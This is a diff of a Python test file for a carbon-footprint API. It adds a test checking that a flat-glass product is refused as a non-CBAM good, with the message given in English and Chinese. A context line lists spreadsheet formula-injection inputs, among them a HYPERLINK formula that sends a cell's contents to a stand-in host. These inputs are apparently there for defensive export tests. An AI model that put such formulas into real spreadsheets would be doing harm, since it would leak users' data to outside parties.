@@ -76,6 +76,20 @@ def test_flat_glass_is_not_a_cbam_good(world):
     assert world.call("rival-engineer", "GET", f"/api/v1/footprints/{glass}/cbam").status_code == 404
 
 
+def test_a_good_outside_annex_i_is_refused_by_a_code_a_page_words_in_chinese():
+    from footprint_api.core.messages import catalogue
+    from footprint_api.exports import cbam
+
+    refusal = cbam.refusal("PCR-CN-FLATGLASS")
+    assert (refusal.code, refusal.params) == ("cbam.not_a_good", {"pcr": "PCR-CN-FLATGLASS"})
+    assert str(refusal) == "PCR-CN-FLATGLASS does not make a good listed in Annex I of Regulation (EU) 2023/956"
+    assert catalogue("en")(refusal.code, **refusal.params) == str(refusal)
+    assert catalogue("zh")(refusal.code, **refusal.params) == (
+        "PCR-CN-FLATGLASS 所涵盖的产品不是欧盟《碳边境调节机制》条例（(EU) 2023/956）附件一所列的货物"
+    )
+    assert cbam.refusal("PCR-CN-CEMENT") is None
+
+
 FORMULAS = ['=HYPERLINK("http://x.example/?leak="&A1,"open")', "=1+1", "+1+1", "-1+1", "@SUM(A1)"]
 
 
